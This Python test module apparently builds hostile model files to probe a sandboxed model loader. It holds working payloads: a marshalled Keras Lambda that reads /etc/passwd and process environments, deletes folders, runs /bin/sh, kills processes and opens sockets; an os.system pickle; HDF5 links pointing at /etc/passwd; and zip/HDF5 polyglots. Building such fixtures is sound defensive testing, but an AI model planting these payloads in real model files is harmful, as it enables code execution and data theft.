"""Hostile Keras files and others, made on the spot; `saved_models.py` makes hostile SavedModels.

Makers take a `watch.Watch` (what to attack) and give the path of a file in its folder.
"""

import codecs
import json
import marshal
import os
import pickle
import socket
import textwrap
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np
from watch import Watch

Maker = Callable[[Watch], Path]
KERNEL = np.zeros((6, 3), np.float32)
INPUT = {"batch_input_shape": [None, 6], "dtype": "float32", "name": "x"}


def layer(name: str, config: Any = None, /, **others) -> dict:
    """A layer's or object's part of a config."""
    return {"class_name": name, "config": {} if config is None else config, **others}


def model_2(*layers: dict) -> dict:
    """A Keras 2 functional config: an input, these layers beside it, and a dense layer."""
    dense = layer("Dense", {"units": 3, "name": "d"}, name="d", inbound_nodes=[[["x", 0, 0, {}]]])
    parts = [layer("InputLayer", INPUT, name="x", inbound_nodes=[]), *layers, dense]
    ends = {"input_layers": [["x", 0, 0]], "output_layers": [["d", 0, 0]]}
    return layer("Functional", {"name": "m", "layers": parts, **ends})


def op(function: str, first: Any, kind: str = "TFOpLambda", **given) -> dict:
    """A layer that has Keras 2 call a TensorFlow function of constants while it loads."""
    config = {"name": "op", "function": function, "dtype": "float32"}
    node = [["_CONSTANT_VALUE", -1, first, given]]
    return layer(kind, config, name="op", inbound_nodes=node)


def method(symbol: str, name: str, first: Any, **given) -> dict:
    """A ClassMethod layer: a class method of TensorFlow on constants."""
    config = {"name": "op", "cls_symbol": symbol, "method_name": name, "dtype": "float32"}
    node = [["_CONSTANT_VALUE", -1, [first], {"kwargs": given}]]
    return layer("ClassMethod", config, name="op", inbound_nodes=node)


def h5(watch: Watch, config: Any, version: Any = "2.15.0", name: str = "m.h5") -> Path:
    """An .h5 file with this config."""
    with h5py.File(watch.folder / name, "w") as file:
        if config is not None:
            text = config if not isinstance(config, (dict, list)) else json.dumps(config)
            file.attrs["model_config"] = text
        if version is not None:
            file.attrs["keras_version"] = version
        file.create_group("model_weights").attrs["layer_names"] = np.array([], "S1")
    return watch.folder / name


def zipped(
    watch: Watch,
    config: Any,
    version: str = "3.12.0",
    members: dict[str, bytes] | None = None,
    name: str = "m.keras",
) -> Path:
    """A .keras file with this config and these further members."""
    with zipfile.ZipFile(watch.folder / name, "w") as archive:
        text = config if isinstance(config, (str, bytes)) else json.dumps(config)
        archive.writestr("config.json", text)
        archive.writestr("metadata.json", json.dumps({"keras_version": version}))
        for member, content in (members or {}).items():
            archive.writestr(member, content)
    return watch.folder / name


def model_3(*layers: dict) -> dict:
    """A Keras 3 sequential config with these layers after an input."""
    start = layer("InputLayer", {"batch_shape": [None, 6], "name": "x"}, module="keras.layers")
    config = {"name": "m", "layers": [start, *layers]}
    return layer("Sequential", config, module="keras", registered_name=None)


def dense(**config) -> dict:
    """A Keras 3 dense layer with this in its config."""
    return layer("Dense", {"units": 3, **config}, module="keras.layers", registered_name=None)


LAST_CONFIG = json.dumps(model_3(dense())).encode()  # the member that a reader takes: the last

# Weights ------------------------------------------------------------------------------------------


Fill = Callable[[h5py.File, str], None]  # puts something hostile beside or in place of a kernel


def external_link(file: h5py.File, kernel: str) -> None:
    del file[kernel]
    file[kernel] = h5py.ExternalLink("/etc/passwd", "/")


def soft_link(file: h5py.File, kernel: str) -> None:
    file.move(kernel, "elsewhere")
    file[kernel] = h5py.SoftLink("/elsewhere")


def external_storage(file: h5py.File, kernel: str) -> None:
    del file[kernel]
    file.create_dataset(kernel, (6, 3), "f4", external=[("/etc/passwd", 0, 72)])


def virtual(file: h5py.File, kernel: str) -> None:
    del file[kernel]
    layout = h5py.VirtualLayout((6, 3), "f4")
    layout[:] = h5py.VirtualSource("/etc/passwd", "x", (6, 3))
    file.create_virtual_dataset(kernel, layout)


def cycle(file: h5py.File, kernel: str) -> None:
    file.create_group("more")["again"] = file["/"]


def deep(file: h5py.File, kernel: str) -> None:
    group = file
    for _ in range(10_000):
        group = group.create_group("g")


def filtered(file: h5py.File, kernel: str) -> None:
    """A kernel that only a plug-in filter of number 32004 can unpack."""
    del file[kernel]
    settings = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
    settings.set_chunk((6, 3))
    settings.set_filter(32004, h5py.h5z.FLAG_OPTIONAL, ())
    space = h5py.h5s.create_simple((6, 3))
    data = h5py.h5d.create(file.id, kernel.encode(), h5py.h5t.NATIVE_FLOAT, space, settings)
    data.write_direct_chunk((0, 0), bytes(72))


def in_h5(fill: Fill) -> Maker:
    """An .h5 file with the weights that its model needs, changed by `fill`."""

    def make(watch: Watch) -> Path:
        path, names = h5(watch, model_2()), ("d/kernel:0", "d/bias:0")
        with h5py.File(path, "a") as file:
            group = file["model_weights"]
            group.attrs["layer_names"] = np.array(["d"], "S9")
            group.create_group("d").attrs["weight_names"] = np.array(names, "S20")
            group["d/d/kernel:0"], group["d/d/bias:0"] = KERNEL, KERNEL[0]
            fill(file, "model_weights/d/d/kernel:0")
        return path

    return make


def weights(watch: Watch, fill: Fill = lambda file, kernel: None) -> bytes:
    """What a .keras file keeps the weights of `model_3(dense())` in, changed by `fill`."""
    path = watch.folder / "weights"
    with h5py.File(path, "w", libver="latest") as file:
        file["layers/dense/vars/0"], file["layers/dense/vars/1"] = KERNEL, KERNEL[0]
        fill(file, "layers/dense/vars/0")
    content = path.read_bytes()
    path.unlink()
    return content


def in_keras(fill: Fill) -> Maker:
    """A .keras file with weights changed by `fill`."""

    def make(watch: Watch) -> Path:
        content = weights(watch, fill)
        return zipped(watch, model_3(dense()), members={"model.weights.h5": content})

    return make


# Code ---------------------------------------------------------------------------------------------


def python_code(watch: Watch) -> Path:
    """A Keras 2 Lambda whose code writes, reads, connects, starts processes and sends signals."""
    source = textwrap.dedent(f"""
    def attack(x):
        import os, shutil, signal, socket, subprocess
        outside, parent = {str(watch.outside)!r}, os.getppid()
        def read(path):
            with open(path, "rb") as file:
                raise SystemExit(file.read())
        def call(kind, family, where):
            with socket.socket(family, kind) as talk:
                talk.connect(where)
                talk.send(b"secret")
        attempts = [
            lambda: open(outside + "/secret.txt", "w"), lambda: open(outside + "/new", "w"),
            lambda: open("here", "w"), lambda: os.remove(outside + "/secret.txt"),
            lambda: shutil.rmtree(outside), lambda: os.mkdir(outside + "/folder2"),
            lambda: os.rename(outside + "/folder", outside + "/moved"),
            lambda: os.symlink("/etc", outside + "/link"), lambda: os.chmod(outside, 0),
            lambda: os.utime(outside), lambda: read(outside + "/secret.txt"),
            lambda: read("/etc/passwd"), lambda: read("/proc/%d/environ" % parent),
            lambda: subprocess.run(["touch", outside + "/made"]), os.fork,
            lambda: os.execv("/bin/sh", ["sh", "-c", "touch " + outside + "/made"]),
            lambda: os.kill(parent, signal.SIGKILL), lambda: os.kill(-1, signal.SIGKILL),
            lambda: call(socket.SOCK_STREAM, socket.AF_INET, ("127.0.0.1", {watch.tcp})),
            lambda: call(socket.SOCK_DGRAM, socket.AF_INET, ("127.0.0.1", {watch.udp})),
            lambda: call(socket.SOCK_STREAM, socket.AF_UNIX, {watch.unix!r}),
        ]
        done = []
        for number, attempt in enumerate(attempts):
            try:
                attempt()
                done.append(number)
            except OSError:
                continue
            except BaseException as error:
                done.append((number, repr(error)))
        raise ValueError("%d attempts, done: %s" % (len(attempts), done))
    """)
    space: dict[str, Any] = {}
    exec(compile(source, "m", "exec"), space)
    dumped = codecs.encode(marshal.dumps(space["attack"].__code__), "base64").decode("ascii")
    code = [dumped, None, None]  # as Keras 2 writes it, with defaults and closure
    config = {"name": "op", "function": code, "function_type": "lambda", "module": "__main__"}
    config |= {"output_shape": None, "output_shape_type": "raw", "arguments": {}}
    return h5(watch, model_2(layer("Lambda", config, name="op", inbound_nodes=[[["x", 0, 0, {}]]])))


# Other files --------------------------------------------------------------------------------------


def named(name: str, content: bytes) -> Maker:
    """A file of this name and content."""

    def make(watch: Watch) -> Path:
        (watch.folder / name).write_bytes(content)
        return watch.folder / name

    return make


def torch_zip(name: str) -> Maker:
    """What torch.save writes: a zip whose first member is a pickle."""

    def make(watch: Watch) -> Path:
        with zipfile.ZipFile(watch.folder / name, "w") as archive:
            archive.writestr("archive/data.pkl", hostile_pickle(watch))
        return watch.folder / name

    return make


class _Runs:
    def __init__(self, command: str):
        self._command = command

    def __reduce__(self):
        return os.system, (self._command,)


def hostile_pickle(watch: Watch) -> bytes:
    """A pickle that writes a file when it is loaded."""
    return pickle.dumps(_Runs(f"touch {watch.outside}/pickled"))


def special(kind: str) -> Maker:
    """A FIFO, a socket, a folder without a model, or what may not be read."""

    def make(watch: Watch) -> Path:
        path = watch.folder / "m.tflite"
        if kind == "fifo":
            os.mkfifo(path)
        elif kind == "socket":
            with socket.socket(socket.AF_UNIX) as listener:
                listener.bind(str(path))
        elif kind == "folder":
            path.mkdir()
        elif kind == "loop":
            path.symlink_to(path)
        else:
            return Path("/dev/zero")
        return path

    return make


def zip_and_h5(first: str) -> Maker:
    """One file that is a zip to one reader and HDF5 to another; the hostile part lies second."""

    def make(watch: Watch) -> Path:
        bad = op("io.write_file", str(watch.outside / "new"), contents="x")
        hostile, harmless = model_2(bad), model_2()
        if first == "h5":
            content = h5(watch, harmless, name="a").read_bytes()
            content += zipped(watch, hostile, "2.15.0", name="b").read_bytes()
            path = watch.folder / "m.keras"
        else:
            head = zipped(watch, harmless, "2.15.0", name="b").read_bytes()
            with h5py.File(watch.folder / "a", "w", userblock_size=2**13) as file:
                file.attrs["model_config"] = json.dumps(hostile)
                file.attrs["keras_version"] = "2.15.0"
                file.create_group("model_weights").attrs["layer_names"] = np.array([], "S1")
            tail = (watch.folder / "a").read_bytes()[2**13 :]
            path = watch.folder / "m.h5"
            content = b"PK\3\4".ljust(2**13, b"\0") + tail + head
        path.write_bytes(content)
        (watch.folder / "a").unlink()
        (watch.folder / "b").unlink()
        return path

    return make
